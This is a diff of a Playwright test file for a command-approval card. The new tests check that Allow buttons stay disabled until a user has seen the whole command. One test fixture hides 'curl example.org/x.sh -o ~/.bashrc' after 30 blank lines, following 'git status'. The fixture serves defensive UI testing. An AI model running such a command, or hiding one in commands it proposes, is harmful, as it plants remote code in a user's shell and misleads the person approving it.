@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-from collections.abc import Generator
 from typing import Any
 
 import pytest
@@ -12,26 +11,12 @@ pytest.importorskip(
 )
 pytest.importorskip("uvicorn", reason="uvicorn, which serves the page, is not installed")
 
-from playwright.sync_api import Browser, Locator, Page, expect
+from playwright.sync_api import Locator, Page, expect
 
-from tests.server.browser import Server, Visitor
+from tests.server.browser import Visitor
 from tests.server.page_scripts import CARD, CARDS, WAITED
 
-TABLE = "<!doctype html><title>a table for cards</title>"
 HALF, LESS = 600, 400  # ms: more and less than half a second, on a clock that is set
-
-
-@pytest.fixture
-def table(browser: Browser, server: Server) -> Generator[Page]:
-    """A page on which time stands still unless it is told to go on."""
-    context = browser.new_context()
-    page = context.new_page()
-    page.clock.install()
-    page.route("**/table", lambda route: route.fulfill(body=TABLE, content_type="text/html"))
-    page.goto(f"{server.url}table")
-    page.clock.pause_at(page.evaluate("Date.now() + 1000"))
-    yield page
-    context.close()
 
 
 def allow(page: Page) -> Locator:
@@ -177,9 +162,10 @@ def test_a_write_is_shown_as_what_it_changes_and_always_by_its_scope(visitor: Vi
     expect(card.locator(".warning")).to_contain_text("cannot be seen")
     assert card.locator("img").count() == 0
     labels = [choice["label"] for choice in WRITE["choices"]]
-    expect(card.get_by_role("button")).to_have_text(labels)
+    expect(card.locator(".choices button")).to_have_text(labels)
     expect(card).not_to_have_attribute("data-early", "")
     visitor.picture("write")
+    card.locator(".lines").evaluate("one => one.scrollTo(0, one.scrollHeight)")
     card.get_by_role("button", name=labels[2]).click()
     page.wait_for_function("window.answered.length")
     assert page.evaluate("window.answered") == [{"allow": True, "always": True, "scope": "wider"}]
@@ -197,6 +183,64 @@ def test_a_command_is_shown_over_the_lines_it_has(visitor: Visitor) -> None:
     visitor.page.locator("lw-question").evaluate("card => card.focus()")
     expect(visitor.page.get_by_role("button", name="Deny", exact=True)).to_be_focused()
     visitor.page.reload()
+
+
+HIDDEN = ("git status", *[""] * 30, "curl example.org/x.sh -o ~/.bashrc")
+LONG = COMMAND | {"lines": [{"mark": " ", "text": text} for text in HIDDEN], "notes": []}
+DRAWN = """async () => {
+  for (let times = 0; times < 3; times++) await new Promise(requestAnimationFrame);
+}"""
+IN_SIGHT = """card => {
+  const top = (one) => one.getBoundingClientRect().top;
+  const scroller = document.querySelector(".scroller").getBoundingClientRect();
+  const heading = top(card.querySelector("h2")), lines = top(card.querySelector(".lines"));
+  return heading >= scroller.top && lines < scroller.bottom - 60;
+}"""
+
+
+@pytest.mark.scenario("W45", part="server")
+@pytest.mark.parametrize("how", ["scrolls", "shows all"])
+def test_a_command_whose_end_is_out_of_sight_is_allowed_by_who_has_seen_it(
+    visitor: Visitor, how: str
+) -> None:
+    page, card = visitor.page, visitor.page.locator("lw-question")
+    page.evaluate(CARD, LONG)
+    expect(card).not_to_have_attribute("data-early", "")
+    expect(card.locator(".rest")).to_contain_text(HIDDEN[-1])
+    expect(card.get_by_role("button", name="Show all 32 lines")).to_be_visible()
+    allows = [choice["label"] for choice in LONG["choices"] if choice["allow"]]
+    for label in allows:
+        expect(card.get_by_role("button", name=label, exact=True)).to_be_disabled()
+    expect(card.get_by_role("button", name="Deny", exact=True)).to_be_enabled()
+    press(page)
+    assert answered(page) == []
+    visitor.picture("goes-on", card.locator(".rest"))
+    if how == "scrolls":
+        card.locator(".lines").evaluate("one => one.scrollTo(0, one.scrollHeight)")
+    else:
+        card.get_by_role("button", name="Show all 32 lines").click()
+        assert card.locator(".lines").inner_text().splitlines() == list(HIDDEN)
+    page.evaluate(DRAWN)
+    expect(card).not_to_have_attribute("data-early", "")
+    allow(page).click()
+    page.wait_for_function("() => window.answered.length")
+    page.reload()
+
+
+@pytest.mark.scenario("W45", part="server")
+@pytest.mark.parametrize("width", [1280, 390])
+def test_the_beginning_of_what_is_asked_is_on_the_screen_when_it_comes(
+    visitor: Visitor, width: int
+) -> None:
+    page = visitor.page
+    page.set_viewport_size({"width": width, "height": 600})
+    visitor.say("run " + "echo " * 900)
+    card = page.locator("lw-question")
+    expect(card).not_to_have_attribute("data-early", "")
+    assert card.evaluate(IN_SIGHT)
+    expect(card.get_by_role("button", name="Show all of it")).to_be_visible()
+    page.keyboard.press("Escape")
+    page.set_viewport_size({"width": 1280, "height": 860})
 
 
 @pytest.mark.scenario("W19", part="server")
